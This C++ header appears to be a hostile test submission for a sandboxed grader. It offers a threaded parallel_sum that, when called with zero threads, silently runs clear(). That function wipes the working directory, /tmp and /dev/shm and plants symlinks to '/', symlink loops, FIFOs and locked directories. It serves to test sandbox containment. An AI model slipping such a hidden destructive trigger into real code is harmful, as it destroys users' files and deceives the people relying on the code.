// Tries: removes and links whatever lies in the folders it may write to.
// Must get: nothing; at least 80 points
#pragma once
#include <sys/stat.h>
#include <unistd.h>

#include <cstdint>
#include <filesystem>
#include <span>
#include <string>
#include <thread>
#include <vector>

/// What an honest student would write.
inline std::uint64_t add_up(std::span<const std::uint32_t> numbers, unsigned threads) {
  if (threads == 0) threads = 1;
  std::vector<std::uint64_t> sums(threads);
  std::vector<std::jthread> workers;
  for (unsigned i = 0; i < threads; ++i) {
    workers.emplace_back([&, i] {
      const std::size_t from = numbers.size() * i / threads;
      const std::size_t to = numbers.size() * (i + 1) / threads;
      std::uint64_t sum = 0;
      for (const std::uint32_t number : numbers.subspan(from, to - from)) sum += number;
      sums[i] = sum;
    });
  }
  workers.clear();
  std::uint64_t total = 0;
  for (const std::uint64_t sum : sums) total += sum;
  return total;
}

inline void clear() {
  std::error_code error;
  for (const char* folder : {".", "/tmp", "/dev/shm"}) {
    for (const auto& entry : std::filesystem::directory_iterator(folder, error))
      std::filesystem::remove_all(entry.path(), error);
    ::symlink("/", (std::string(folder) + "/root").c_str());
    ::symlink("loop", (std::string(folder) + "/loop").c_str());
    ::mkfifo((std::string(folder) + "/pipe").c_str(), 0600);
    ::mkdir((std::string(folder) + "/locked").c_str(), 0);
  }
}

inline std::uint64_t parallel_sum(std::span<const std::uint32_t> numbers, unsigned threads) {
  if (threads == 0) clear();
  return add_up(numbers, threads);
}
